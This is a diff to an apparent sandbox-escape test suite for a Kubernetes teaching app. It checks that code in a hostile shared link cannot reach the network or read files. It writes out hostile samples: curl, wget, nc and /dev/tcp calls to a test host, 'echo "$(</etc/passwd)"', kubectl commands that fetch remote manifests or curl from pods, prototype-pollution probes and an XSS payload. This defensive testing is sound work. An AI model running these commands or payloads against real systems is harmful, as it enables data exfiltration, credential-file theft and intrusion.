@@ -29,6 +29,7 @@ const real = (() => { try { return (0, eval)('globalThis'); } catch { return Fun
 const also = (() => { try { return (() => {}).constructor('return this')(); } catch { return real; } })();
 const url = 'http://${host}/${where}';
 const got = {};
+(real.reached ??= {})['${where}'] = got;
 const attempt = (name, run) => { try { const value = run(real); got[name] = typeof value; if (value && value.then) value.then(() => { got[name] = 'REACHED'; }, () => { got[name] = 'refused'; }); } catch (error) { got[name] = 'refused'; } };
 attempt('fetch', (g) => g.fetch(url));
 attempt('fetchNoCors', (g) => g.fetch(url, { mode: 'no-cors', keepalive: true }));
@@ -59,22 +60,41 @@ attempt('channel', (g) => { new g.BroadcastChannel('converge').postMessage('${wh
 attempt('parent', (g) => { got.parent = String(g.parent.document.title); });
 attempt('top', (g) => { g.top.location = url + '-top'; got.top = 'REACHED'; });
 attempt('post', (g) => g.postMessage({ type: 'converge-frame', message: '${where}' }));
+attempt('font', (g) => new g.FontFace('x', 'url(' + url + '-font)').load());
+attempt('dataFetch', (g) => g.fetch('data:text/plain,x'));
+attempt('locks', (g) => g.navigator.locks.request('converge', () => 1));
+attempt('notification', (g) => { new g.Notification('x'); got.notification = 'REACHED'; });
 attempt('shared memory', (g) => { const s = new g.SharedArrayBuffer(8); got['shared memory'] = 'REACHED'; return s; });
 attempt('prototypes', () => { Object.defineProperty({}.__proto__, 'polluted', { value: '${where}', configurable: true }); });
 attempt('constructor', () => { JSON.parse('{"__proto__":{"polluted":"json"}}'); });`;
 
-const tell = (line: string): string => `${line}(JSON.stringify(got));`;
+/** A plugin of the scheduler, and the built-in scheduler's own answer. */
+const plugin = (): string => `${attack('plugin')}
+export default { name: 'NodeName', filter() { ${attack('filter')} return undefined; }, score() { ${attack('score')} return 1; } };`;
+
+/** What every place has got: they share a realm, so the last of them can say it for all. */
+const tellAll = `print(JSON.stringify(Function('return this')().reached));`;
+const programs = (from: string): string =>
+  `curl -s http://${host}/${from}; wget -qO- http://${host}/${from}; nc ${host.replace(':', ' ')}; node -e 'fetch("http://${host}/${from}")'; exec 3<>/dev/tcp/${host.replace(':', '/')}; echo "$(</etc/passwd)"`;
 const slow = `await sleep(50);`;
 const controller = (): string => `import { ReplicaSet } from 'converge/sdk';
 import './other.ts';
 ${attack('controller')}
-export default { name: 'replicaset', for: ReplicaSet, async reconcile() { ${attack('reconcile')} ${tell('console.log')} } };`;
+export default { name: 'replicaset', for: ReplicaSet, async reconcile() { ${attack('reconcile')} } };`;
 
 /** Made when the server's address is known. */
 const inputs = (): readonly InputRequest[] => [
   { type: 'edit', path: 'other.ts', text: `${attack('import')}\nexport {};` },
   { type: 'edit', path: 'evil.ts', text: controller() },
   { type: 'swap', controller: 'replicaset', entry: 'evil.ts' },
+  { type: 'edit', path: 'plugin.ts', text: plugin() },
+  { type: 'swap', controller: 'scheduler/NodeName', entry: 'plugin.ts' },
+  { type: 'edit', path: 'attack.sh', text: `${programs('file')}\n` },
+  { type: 'command', text: 'kubectl run unowned --image=nginx' },
+  {
+    type: 'command',
+    text: `kubectl run inside --image=curlimages/curl --restart=Never --command -- sh -c 'curl -s -m 2 http://${host}/pod; wget -T 2 -qO- http://${host}/pod'`,
+  },
   {
     type: 'manifest',
     path: 'web.yaml',
@@ -88,14 +108,14 @@ spec: { replicas: 1, selector: { matchLabels: { app: web } }, template: { metada
   {
     type: 'command',
     cell: 'list',
-    text: `kubectl apply -f http://${host}/kubectl; kubectl run x --image=${host}/image; curl http://${host}/curl; wget ${host}; echo '<script src=http://${host}/echo></script>'`,
+    text: `kubectl apply -f http://${host}/kubectl; kubectl run x --image=${host}/image; curl http://${host}/curl; wget ${host}; echo '<script src=http://${host}/echo></script>'; sh attack.sh; . ./attack.sh; sleep 5; kubectl logs inside; kubectl exec unowned -- sh -c 'curl -s -m 2 http://${host}/exec'`,
   },
-  { type: 'script', cell: 'owners', source: `${attack('script')}\n${slow}\n${tell('print')}` },
+  { type: 'script', cell: 'owners', source: `${attack('script')}\n${slow}\n${tellAll}` },
 ];
 const shared = (more: readonly InputRequest[] = inputs()): SharedSession => ({
   lesson: '12-replicaset',
   lessonHash: '00000000',
-  log: { version: 1, seed: 1, cluster: { nodes: 3, plain: true }, files: {}, inputs: more.map((each, at): Input => ({ ...each, at })) },
+  log: { version: 1, seed: 1, cluster: { nodes: 3 }, files: {}, inputs: more.map((each, at): Input => ({ ...each, at })) },
   files: { 'reconcile.ts': `${attack('exercise')}\n` },
   cells: { owners: '<img src=x onerror=alert(1)>' },
   free: [],
@@ -142,7 +162,7 @@ test('a hostile link runs nothing before a click, and then gets nothing and nowh
     await page.goto('about:blank');
     await page.goto(`${lesson}#${fragment}`);
     await expect(asked(page)).toBeVisible();
-    await expect(asked(page)).toContainText('It runs 6 inputs');
+    await expect(asked(page)).toContainText('It runs 11 inputs');
     await asked(page).getByText('Writes evil.ts').click();
     await expect(asked(page)).toContainText('SharedArrayBuffer');
     await expect(page.locator('iframe')).toHaveCount(0);
@@ -164,10 +184,18 @@ test('a hostile link runs nothing before a click, and then gets nothing and nowh
     await awake(cell(page, 'owners'));
     await expect(cell(page, 'owners')).toHaveClass(/stale|fresh/, { timeout: 60_000 });
     const text = await outputOf(page, 'owners').locator('pre').innerText();
-    const got: Record<string, string> = JSON.parse(text.slice(text.indexOf('{')));
-    expect(Object.entries(got).filter(([, value]) => value === 'REACHED')).toEqual([]);
-    expect(got).toMatchObject({ fetch: 'refused', xhr: 'refused', module: 'refused', script: 'refused', caches: 'refused' });
-    expect(Object.keys(got).length).toBeGreaterThan(30);
+    const all: Record<string, Record<string, string>> = JSON.parse(text.slice(text.indexOf('{')));
+    // A module, a reconcile, a plugin as it is loaded and as it is asked, what they import, and a cell.
+    expect(Object.keys(all).sort()).toEqual(['controller', 'filter', 'import', 'plugin', 'reconcile', 'score', 'script']);
+    for (const [where, got] of Object.entries(all)) {
+      expect([where, Object.entries(got).filter(([, value]) => value === 'REACHED')]).toEqual([where, []]);
+      expect(got).toMatchObject({ fetch: 'refused', xhr: 'refused', module: 'refused', script: 'refused', caches: 'refused' });
+      expect(Object.keys(got).length).toBeGreaterThan(34);
+    }
+    // Commands, files of commands and containers say what they could not reach.
+    const commands = await outputOf(page, 'list').innerText();
+    expect(commands).toMatch(/curl/);
+    expect(commands).not.toMatch(/leaked|root:/);
   });
 
   await test.step('the page is as it was', async () => {
